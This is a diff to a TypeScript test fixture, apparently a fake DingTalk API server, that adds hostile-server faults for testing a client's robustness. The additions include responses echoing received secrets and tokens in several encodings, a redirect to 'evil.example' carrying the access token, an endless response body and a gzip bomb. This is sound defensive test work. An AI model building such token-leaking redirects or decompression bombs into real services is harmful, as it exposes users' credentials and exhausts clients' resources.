@@ -10,6 +10,7 @@ import { createServer, type IncomingMessage, type RequestListener, type ServerRe
 import { createServer as createHttpsServer } from 'node:https';
 import type { AddressInfo, Socket } from 'node:net';
 import { randomBytes } from 'node:crypto';
+import { gzipSync } from 'node:zlib';
 
 export interface FakeApp {
   type: 'internal' | 'third-party-enterprise' | 'third-party-personal';
@@ -38,7 +39,21 @@ export type FaultKind =
   | { kind: 'nonJson' }
   | { kind: 'ipNotAllowed' }
   | { kind: 'qpsLimit'; retryAfter?: string }
-  | { kind: 'redirect'; location: string };
+  | { kind: 'redirect'; location: string }
+  | { kind: 'status503'; retryAfter?: string }
+  // Hostile servers (issue 13): echo what they received, answer without end, bomb.
+  /** Token endpoint: refuse, echoing every received value (secret, ticket) in code, message and requestid: plain, URL-encoded, base64, JSON-escaped. */
+  | { kind: 'echoSecret' }
+  /** API: a 403 (or a 302 with `status: 302`) whose message, requestid and Location carry the token it was sent: plain, URL-encoded, base64. */
+  | { kind: 'echoToken'; status?: 403 | 302 }
+  /** A chunked answer that never ends (until the client goes away); bytes written are counted in `endlessBytes`. */
+  | { kind: 'endlessBody' }
+  /** `content-encoding: gzip` of `mib` MiB of JSON-ish text (a few dozen KiB on the wire). */
+  | { kind: 'gzipBomb'; mib: number }
+  /** Token endpoint: a real token, but with this `expireIn`. */
+  | { kind: 'tokenLifetime'; expireIn: unknown }
+  /** Any text as the answer body (control characters, a long message…). */
+  | { kind: 'body'; status: number; text: string; headers?: Record<string, string> };
 
 export type Fault = FaultKind & {
   /** Which requests: a regexp on the path (default: every non-token request). */
@@ -79,6 +94,8 @@ export interface FakeDingTalk {
   requests: RecordedRequest[];
   /** Every token the server issued (to assert none leaks into output). */
   issuedTokens: string[];
+  /** Bytes an endlessBody fault wrote before the client went away (one entry per answer). */
+  endlessBytes: number[];
   setFaults(faults: Fault[]): void;
   setGrants(app: string, grants: string[]): void;
   tokenRequests(): RecordedRequest[];
@@ -86,7 +103,7 @@ export interface FakeDingTalk {
 }
 
 /** Token endpoints only: other /v1.0/oauth2/ paths (authInfo, ssoUserInfo…) are APIs with scopes. */
-const TOKEN_PATH = /^\/v1\.0\/oauth2\/(?:accessToken|corpAccessToken|userAccessToken|suiteAccessToken|[^/]+\/token)$|^\/gettoken$/;
+export const TOKEN_PATH = /^\/v1\.0\/oauth2\/(?:accessToken|corpAccessToken|userAccessToken|suiteAccessToken|[^/]+\/token)$|^\/gettoken$/;
 
 const requestId = () => randomBytes(8).toString('hex').toUpperCase();
 
@@ -130,6 +147,8 @@ export async function startFakeDingTalk(options: FakeDingTalkOptions): Promise<F
   for (const [name, app] of apps) if (app.accessToken) tokens.set(app.accessToken, name);
   const requests: RecordedRequest[] = [];
   const issuedTokens: string[] = [];
+  const endlessBytes: number[] = [];
+  const bombs = new Map<number, Buffer>();
   const sockets = new Set<Socket>();
 
   const issue = (name: string) => {
@@ -271,7 +290,78 @@ export async function startFakeDingTalk(options: FakeDingTalkOptions): Promise<F
         res.writeHead(302, { location: fault.location, 'content-length': 0 });
         res.end();
         return true;
+      case 'status503':
+        send(res, 503, { requestid: rid, code: 'ServiceUnavailable', message: '服务暂不可用' }, fault.retryAfter ? { 'retry-after': fault.retryAfter } : {});
+        return true;
+      case 'echoSecret': {
+        const values = receivedValues(record);
+        const all = values.join(' ');
+        send(res, 400, {
+          requestid: values[1] ?? rid,
+          code: `bad-${values[1] ?? 'none'}`,
+          message: `refused ${all} | ${encodeURIComponent(all)} | ${new URLSearchParams(record.query).toString()} ${record.body ? encodeURIComponent(record.body) : ''} | ${Buffer.from(record.body).toString('base64')} | ${JSON.stringify(record.body)}`,
+        });
+        return true;
+      }
+      case 'echoToken': {
+        const token = record.token ?? 'none';
+        const echo = `${token} ${encodeURIComponent(token)} ${Buffer.from(token).toString('base64')}`;
+        const location = `https://evil.example/login?token=${encodeURIComponent(token)}&raw=${token}`;
+        if (fault.status === 302) {
+          res.writeHead(302, { location, 'x-request-id': token, 'content-length': 0 });
+          res.end();
+        } else if (record.kind === 'legacy') {
+          send(res, 200, { errcode: 88, sub_code: '60011', sub_msg: `token ${echo} lacks [qyapi_get_member]`, errmsg: `ding talk error[subcode=60011,submsg=token ${echo}]`, request_id: token }, { location });
+        } else {
+          send(res, 403, { requestid: token, code: 'Forbidden.AccessDenied.AccessTokenPermissionDenied', message: `应用尚未开通所需的权限：[Contact.User.Read] token ${echo}`, accessdenieddetail: { requiredScopes: ['Contact.User.Read'] } }, { location });
+        }
+        return true;
+      }
+      case 'endlessBody': {
+        res.writeHead(200, { 'content-type': 'application/json' });
+        const chunk = Buffer.from(`{"code":"${'x'.repeat(16 * 1024)}",`);
+        let written = 0;
+        const index = endlessBytes.push(0) - 1;
+        // Write as fast as the client reads; stop when it goes away.
+        const pump = () => {
+          while (!res.destroyed && res.write(chunk)) endlessBytes[index] = written += chunk.length;
+          if (!res.destroyed) res.once('drain', pump);
+        };
+        res.on('close', () => (endlessBytes[index] = written));
+        pump();
+        return true;
+      }
+      case 'gzipBomb': {
+        let bomb = bombs.get(fault.mib);
+        if (!bomb) {
+          const filler = Buffer.alloc(fault.mib * 1024 * 1024, 'a');
+          bomb = gzipSync(Buffer.concat([Buffer.from('{"code":"InvalidParameter","message":"'), filler, Buffer.from('"}')]), { level: 9 });
+          bombs.set(fault.mib, bomb);
+        }
+        res.writeHead(400, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': bomb.length });
+        res.end(bomb);
+        return true;
+      }
+      case 'tokenLifetime':
+        send(res, 200, { accessToken: issue('unknown'), expireIn: fault.expireIn });
+        return true;
+      case 'body':
+        res.writeHead(fault.status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(fault.text), ...fault.headers });
+        res.end(fault.text);
+        return true;
     }
+  }
+
+  /** Every string the request carried: JSON body values, form/query values. */
+  function receivedValues(record: RecordedRequest): string[] {
+    let json: unknown = null;
+    try {
+      json = record.body ? JSON.parse(record.body) : null;
+    } catch {
+      json = null;
+    }
+    const fromBody = json && typeof json === 'object' ? Object.values(json as Record<string, unknown>).filter((v): v is string => typeof v === 'string') : [];
+    return [...fromBody, ...Object.values(record.query)];
   }
 
   const listener: RequestListener = (req, res) => {
@@ -336,6 +426,7 @@ export async function startFakeDingTalk(options: FakeDingTalkOptions): Promise<F
     port,
     requests,
     issuedTokens,
+    endlessBytes,
     setFaults: (next) => {
       faults = next.map((f) => ({ ...f, used: 0 }));
     },
